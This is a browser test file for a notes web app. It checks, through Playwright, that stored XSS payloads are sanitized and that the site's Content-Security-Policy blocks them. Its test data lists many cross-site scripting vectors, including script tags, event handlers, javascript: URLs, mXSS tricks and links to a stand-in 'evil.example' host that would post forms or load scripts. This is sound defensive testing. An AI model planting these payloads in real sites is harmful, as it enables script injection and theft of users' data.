"""A stored hostile entry executes nothing, in a real browser (Debian's chromium through
Playwright) against the real server (`commonplace up`, gunicorn).

Two layers are checked. First the sanitizer: an entry full of script, event handlers,
javascript: URLs, frames, forms and styles is stored through the API and shown on every
page that renders it; nothing runs, nothing is fetched from elsewhere, and the browser
reports no CSP violation, because nothing executable reached the page at all. Then the
Content-Security-Policy behind it: the same payloads, planted straight into the page's DOM
as if the sanitizer had missed them, still run nothing, and the browser reports each
blocked attempt as a CSP violation (securitypolicyviolation events).
"""

from __future__ import annotations

import contextlib
import json
import urllib.request

import pytest

from tests.browser.harness import BROWSER, browser_context, hard_timeout

pytestmark = BROWSER


@pytest.fixture(scope="module")
def live_server(module_server) -> str:
    """One server for the module: each test stores and visits an entry of its own."""
    return module_server[0]

# Every payload, if it ran, would set window.__pwned or open a dialog.
HOSTILE = """# Totally normal notes

<script>window.__pwned = 'script'</script>
<img src="x" onerror="window.__pwned = 'onerror'">
<svg onload="window.__pwned = 'svg'"><script>window.__pwned = 'svg-script'</script></svg>
<iframe src="javascript:parent.__pwned = 'iframe'"></iframe>
<iframe srcdoc="<script>parent.__pwned = 'srcdoc'</script>"></iframe>
<object data="javascript:window.__pwned = 'object'"></object>
<embed src="javascript:window.__pwned = 'embed'">
<a id="jslink" href="javascript:window.__pwned = 'href'">click me</a>
[markdown link](javascript:window.__pwned='md')
<a href="data:text/html,<script>alert(1)</script>">data link</a>
<form action="https://evil.example/steal" method="post"><button id="b">go</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: url("https://evil.example/track.png") }</style>
<div style="background-image: url(https://evil.example/inline.png)">styled</div>
<details open ontoggle="window.__pwned = 'ontoggle'">d</details>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 'mxss'">
<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></noscript>
![img](x" onerror="window.__pwned='mdimg')

```html
<script>window.__pwned = 'inside a code block is only text'</script>
```
"""

WATCH_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', e => {
  window.__violations.push(e.violatedDirective + ' ' + (e.blockedURI || ''));
});
"""


@contextlib.contextmanager
def watched_page(live_server: str):
    """A page whose every request, dialog and CSP report is recorded. Requests that leave
    the server under test are aborted (and recorded), so nothing can reach the network."""
    with browser_context() as context:
        context.add_init_script(WATCH_VIOLATIONS)
        seen = {"outside": [], "dialogs": [], "errors": []}

        def route(r):
            if r.request.url.startswith(live_server) or r.request.url.startswith("data:"):
                r.continue_()
            else:
                seen["outside"].append(r.request.url)
                r.abort()

        context.route("**/*", route)
        page = context.new_page()
        page.set_default_timeout(15_000)
        page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
        page.on("pageerror", lambda e: seen["errors"].append(str(e)))
        yield page, seen


def store(live_server: str, body: str) -> dict:
    request = urllib.request.Request(
        live_server + "/api/v1/entries", method="POST",
        data=json.dumps({"title": "Hostile <b>title</b> <script>x</script>", "body": body,
                         "tags": ["hostile"]}).encode(),
        headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=10) as response:
        return json.loads(response.read())


def test_a_stored_hostile_entry_executes_nothing(live_server):
    entry = store(live_server, HOSTILE)
    pages = [entry["url"], "/", f"/weeks/{entry['week']}", "/search?q=normal", "/tags/hostile",
             f"/entries/{entry['id']}/history"]
    with hard_timeout(120), watched_page(live_server) as (page, seen):
        for path in pages:
            page.goto(live_server + path)
            page.wait_for_load_state("load")
            page.wait_for_timeout(300)  # let anything that would run, run
            assert page.evaluate("window.__pwned === undefined"), (path, page.evaluate(
                "window.__pwned"))
            assert page.evaluate("window.__violations") == [], path
            assert page.url.startswith(live_server + path.split("?")[0]), page.url
        # what is left is inert: links and the form go nowhere dangerous
        page.goto(live_server + entry["url"])
        hrefs = page.eval_on_selector_all(".prose a[href]", "as => as.map(a => a.href)")
        assert not any(h.lower().startswith(("javascript:", "data:")) for h in hrefs), hrefs
        assert page.locator(".prose form, .prose iframe, .prose object, .prose embed, "
                            ".prose script, .prose style, .prose meta, .prose base").count() == 0
        assert page.locator("[onerror], [onload], [ontoggle]").count() == 0
        assert page.locator("h1").first.inner_text().startswith("Hostile <b>title</b>")
        assert page.locator(".prose h1, .prose h2").first.inner_text().startswith("Totally normal")
        assert seen["dialogs"] == [] and seen["errors"] == []
        assert seen["outside"] == []


def test_if_the_sanitizer_missed_something_csp_would_still_stop_it(live_server):
    """Plant raw hostile markup into a served page's DOM (the browser applies that page's
    CSP to it): inline script, handlers and javascript: navigation are blocked, and each
    block is reported as a violation."""
    entry = store(live_server, "plain")
    with hard_timeout(90), watched_page(live_server) as (page, seen):
        page.goto(live_server + entry["url"])
        assert page.evaluate("window.__violations") == []
        page.evaluate("""() => {
            const box = document.createElement('div');
            box.innerHTML = `<img src="/nope.png" onerror="window.__pwned = 'onerror'">
                <a id="js" href="javascript:window.__pwned = 'href'">x</a>
                <iframe srcdoc="<script>parent.__pwned = 'srcdoc'</script>"></iframe>`;
            document.body.appendChild(box);
            const s = document.createElement('script');
            s.textContent = "window.__pwned = 'script'";
            document.body.appendChild(s);
            const ext = document.createElement('script');
            ext.src = 'https://evil.example/x.js';
            document.body.appendChild(ext);
        }""")
        page.click("#js")
        page.wait_for_timeout(500)
        assert page.evaluate("window.__pwned === undefined"), page.evaluate("window.__pwned")
        violations = page.evaluate("window.__violations")
        directives = {v.split()[0] for v in violations}
        assert {"script-src-elem", "script-src-attr"} <= directives, violations
        assert any(v.startswith("script-src-elem https://evil.example") for v in violations)
        assert seen["dialogs"] == []
        assert seen["outside"] == []  # CSP stopped the external script before any request
